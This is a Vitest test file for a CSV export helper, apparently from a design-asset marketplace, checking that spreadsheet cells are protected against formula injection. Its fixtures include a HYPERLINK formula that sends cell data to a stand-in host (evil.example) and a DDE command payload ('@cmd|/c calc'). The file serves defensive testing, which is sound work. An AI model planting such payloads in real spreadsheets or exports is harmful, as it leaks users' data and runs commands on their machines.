import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';

// Every CSV export (sale records, batch image search) goes through toCsv: what a user who opens the
// file in Excel or WPS sees.

/** The data lines of a CSV text, without the byte-order mark and the header. */
const body = (csv: string) => csv.trimEnd().split('\r\n').slice(1);

describe('CSV exports opened in a spreadsheet', () => {
  it('show a work title that looks like a formula as text instead of running it', () => {
    const csv = toCsv(
      ['a', 'b', 'c', 'd', 'e', 'f'],
      [
        [
          '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
          '+1+1',
          '-2+3',
          '@SUM(A1:A2)',
          '\t=1+1',
          '\r=1+1',
        ],
      ],
    );
    expect(body(csv)).toEqual([
      [
        `"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")"`,
        `"'+1+1"`,
        `"'-2+3"`,
        `"'@SUM(A1:A2)"`,
        `"'\t=1+1"`,
        `"'\r=1+1"`,
      ].join(','),
    ]);
  });

  it('sale records: a buyer company or work title beginning with = or @ is not a formula', () => {
    const csv = toCsv(
      ['订单号', '成交时间', '作品', '买家（公司）', '授权类型', '金额（元）', '我的收入（元）'],
      [
        [
          'WY1',
          '2024/5/1 16:00:00',
          '=HYPERLINK("http://evil.example","牡丹")',
          '@cmd|/c calc!A1',
          '素材',
          '123.00',
          '86.10',
        ],
      ],
    );
    expect(body(csv)).toEqual([
      `WY1,2024/5/1 16:00:00,"'=HYPERLINK(""http://evil.example"",""牡丹"")","'@cmd|/c calc!A1",素材,123.00,86.10`,
    ]);
  });

  it('batch image search: a file name, title or designer beginning with - + = is not a formula', () => {
    const csv = toCsv(
      ['文件名', '状态', '匹配类型', '作品ID', '作品标题', '设计师', '相似度', '链接'],
      [['-1+cmd.jpg', '完成', '同款', 7, '=1+1', '+设计师', '0.9800', 'https://wenyang.example/7']],
    );
    expect(body(csv)).toEqual([
      `"'-1+cmd.jpg",完成,同款,7,"'=1+1","'+设计师",0.9800,https://wenyang.example/7`,
    ]);
  });

  it('keep ordinary text, numbers and negative amounts as they were', () => {
    const csv = toCsv(['a', 'b', 'c', 'd', 'e'], [['青花, "缠枝"', -12, '-12.50', 'a=b', 7]]);
    expect(body(csv)).toEqual(['"青花, ""缠枝""",-12,-12.50,a=b,7']);
  });
});
